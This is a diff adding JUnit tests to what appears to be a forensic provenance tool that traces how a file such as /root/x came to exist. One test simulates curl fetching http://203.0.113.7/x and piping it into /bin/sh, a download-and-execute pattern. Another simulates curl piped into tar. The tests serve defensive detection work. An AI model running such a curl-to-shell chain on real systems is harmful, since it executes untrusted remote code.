@@ -7,6 +7,7 @@ import io.drec.record.RecordLayout;
 import io.drec.sample.Flow;
 import io.drec.sample.Frames;
 import io.drec.sample.Proc;
+import io.drec.sample.Reach;
 import io.drec.sample.Session;
 import java.util.List;
 import org.junit.jupiter.api.Test;
@@ -81,6 +82,52 @@ final class WhyTest {
               "written by curl -O http://203.0.113.7/x",
               "received data from 203.0.113.7:80 (tcp), from 10.0.0.5:40000 here");
       assertThat(story.text(Story.why("/root/x"))).contains("bash (pid 100), which was running");
+    }
+  }
+
+  @Test
+  void shouldCrossThePipeOfADownloadIntoAShell() {
+    Proc curl = shell.fork(200);
+    Proc sh = shell.fork(201);
+    curl.exec("/usr/bin/curl", "curl", "http://203.0.113.7/x");
+    sh.exec("/bin/sh", "sh");
+    Flow flow = curl.connect("203.0.113.7", 80);
+    Reach.Pipe out = Reach.write(curl, 77);
+    Reach.Pipe in = Reach.read(sh, 77, 0);
+    Session made = sh.fork(202).exec("/usr/bin/touch", "touch", "/root/x").create("/root/x", 71);
+    made.close(0);
+    flow.close(100, 50);
+    out.close(50);
+    in.close(50);
+    try (Story story = new Story(frames)) {
+      assertThat(path(story, "/root/x"))
+          .containsExactly(
+              "file /root/x",
+              "written by touch /root/x",
+              "started by sh",
+              "ran the script pipe:[77]",
+              "filled by curl http://203.0.113.7/x",
+              "received data from 203.0.113.7:80 (tcp), from 10.0.0.5:40000 here");
+    }
+  }
+
+  @Test
+  void shouldFollowContentThatWasPipedIntoAFile() {
+    Proc curl = shell.fork(200).exec("/usr/bin/curl", "curl", "http://203.0.113.7/x");
+    Proc tar = shell.fork(201).exec("/bin/tar", "tar", "-x");
+    Flow flow = curl.connect("203.0.113.7", 80);
+    Reach.write(curl, 77);
+    Reach.read(tar, 77, 0);
+    tar.create("/root/x", 71).close(500);
+    flow.close(100, 500);
+    try (Story story = new Story(frames)) {
+      assertThat(path(story, "/root/x"))
+          .containsExactly(
+              "file /root/x",
+              "written by tar -x",
+              "read from the pipe pipe:[77]",
+              "filled by curl http://203.0.113.7/x",
+              "received data from 203.0.113.7:80 (tcp), from 10.0.0.5:40000 here");
     }
   }
 
